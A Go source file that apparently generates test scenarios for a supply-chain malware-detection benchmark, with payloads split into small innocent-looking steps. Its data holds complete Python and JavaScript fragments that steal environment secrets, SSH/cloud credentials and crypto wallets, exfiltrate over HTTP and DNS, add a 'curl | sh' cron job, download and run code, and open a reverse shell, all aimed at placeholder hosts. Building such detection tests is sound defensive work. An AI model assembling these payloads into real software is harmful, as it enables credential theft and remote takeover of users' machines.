package generate

// sealedScenarios describes rows of versions with the shapes of this half: payloads
// that are added or stay, payloads cut into steps, and honest upgrades.
func sealedScenarios(seed uint64) []Scenario {
	var out []Scenario
	seen := map[string]int{}
	row := func(s shape, kind string) {
		out = append(out, grownRow(seed, s, kind, sealedDrawn(seed, s, sealedDisguises, len(sealedDisguises))))
	}
	for _, s := range sealedShapes() {
		key := s.lang.ecosystem() + " " + s.family
		if s.weak || seen[key] == 2 {
			continue
		}
		if seen[key]++; seen[key] == 2 {
			row(s, "repeated")
			continue
		}
		row(s, "added")
		row(s, "honest")
	}
	for _, s := range sealedHonest {
		if s.places == nil {
			row(s, "honest")
		}
	}
	for lang, ways := range sealedSteps {
		for n, steps := range ways {
			for _, cut := range []string{"files", "one-file", "pairs"} {
				name := id("row-small-steps", "fourth", language(lang).ecosystem(), n, cut)
				out = append(out, grownSmallSteps(seed, name, language(lang), steps, cut))
			}
		}
	}
	for i := range out {
		out[i].Split, out[i].Opened = Sealed, false
	}
	return out
}

// sealedSteps are payloads cut into five pieces, each of which says little; the last
// one sets them going.
var sealedSteps = [][]stepwise{
	python: {
		{"env-exfil", []string{
			"import os\n\nWANTED = (\"TOKEN\", \"SECRET\", \"PASSWORD\", \"KEY\")\n",
			"def wanted(name):\n    return any(word in name.upper() for word in WANTED)\n",
			"def chosen(environment):\n    return {k: v for k, v in environment.items() if wanted(k)}\n",
			"import json\nimport urllib.request\n\n\ndef question(values):\n    return urllib.request.Request(\"$URL\", json.dumps(values).encode(), {\"Content-Type\": \"application/json\"})\n",
			"urllib.request.urlopen(question(chosen(os.environ)), timeout=5)\n",
		}},
		{"credential-files", []string{
			"import glob\nimport os\n\nPATTERNS = [\"~/.ssh/id_*\", \"~/.aws/credentials\", \"~/.kube/config\"]\n",
			"def names():\n    return [f for p in PATTERNS for f in glob.glob(os.path.expanduser(p))]\n",
			"import io\nimport zipfile\n\n\ndef packed(files):\n    out = io.BytesIO()\n    with zipfile.ZipFile(out, \"w\") as z:\n        for f in files:\n            z.write(f)\n    return out.getvalue()\n",
			"import requests\n\n\ndef given(body):\n    return requests.put(\"$URL\", data=body, timeout=5)\n",
			"given(packed(names()))\n",
		}},
		{"persistence", []string{
			"LINE = \"* * * * * curl -s $URL | sh\"\n",
			"import subprocess\n\n\ndef table():\n    return subprocess.run([\"crontab\", \"-l\"], capture_output=True, text=True).stdout\n",
			"def longer(text, line):\n    return text if line in text else text.rstrip(\"\\n\") + \"\\n\" + line + \"\\n\"\n",
			"def store(text):\n    subprocess.run([\"crontab\", \"-\"], input=text, text=True)\n",
			"store(longer(table(), LINE))\n",
		}},
		{"download-exec", []string{
			"import pathlib\nimport tempfile\n\nFILE = pathlib.Path(tempfile.gettempdir()) / \"words-rules.py\"\n",
			"import http.client\n\n\ndef body(host, path):\n    link = http.client.HTTPSConnection(host, timeout=5)\n    link.request(\"GET\", path)\n    return link.getresponse().read()\n",
			"def kept(data):\n    FILE.write_bytes(data)\n    return FILE\n",
			"import runpy\n\n\ndef used(file):\n    return runpy.run_path(str(file))\n",
			"used(kept(body(\"$HOST\", \"/r\")))\n",
		}},
	},
	javascript: {
		{"reverse-shell", []string{
			"const peer = { host: '$ADDRESS', port: 9001 };\n",
			"const linked = (to) => require('net').connect(to);\n",
			"const worker = () => require('child_process').spawn(process.env.SHELL || '/bin/sh', ['-i']);\n",
			"const joined = (a, b) => (a.pipe(b.stdin), b.stdout.pipe(a), b.stderr.pipe(a));\n",
			"joined(linked(peer), worker());\n",
		}},
		{"decode-exec", []string{
			"const rows = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ3RydWUnKTsgLy8gaW5lcnQ=';\n",
			"const bytes = (text) => Buffer.from(text, 'base64');\n",
			"const text = (data) => data.toString('utf8');\n",
			"const unit = (code) => new (require('vm').Script)(code);\n",
			"globalThis.require = require;\nunit(text(bytes(rows))).runInThisContext();\n",
		}},
		{"wallets", []string{
			"const names = ['.config/solana/id.json', '.electrum/wallets/default_wallet', '.bitcoin/wallet.dat'];\n",
			"const full = (name) => require('path').resolve(require('os').homedir(), name);\n",
			"const there = (file) => require('fs').existsSync(file);\n",
			"const put = (file) => require('fs').createReadStream(file).pipe(require('https').request('$URL', { method: 'PUT' }));\n",
			"names.map(full).filter(there).forEach(put);\n",
		}},
		{"env-exfil", []string{
			"const zone = 'x.$DOMAIN';\n",
			"const chosen = () => Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k));\n",
			"const labels = (pairs) => pairs.flatMap(([k, v]) => Buffer.from(k + '=' + v).toString('hex').match(/.{1,60}/g));\n",
			"const ask = (label, end) => require('dns').resolve(label + '.' + end, () => {});\n",
			"labels(chosen()).forEach((label) => ask(label, zone));\n",
		}},
	},
}
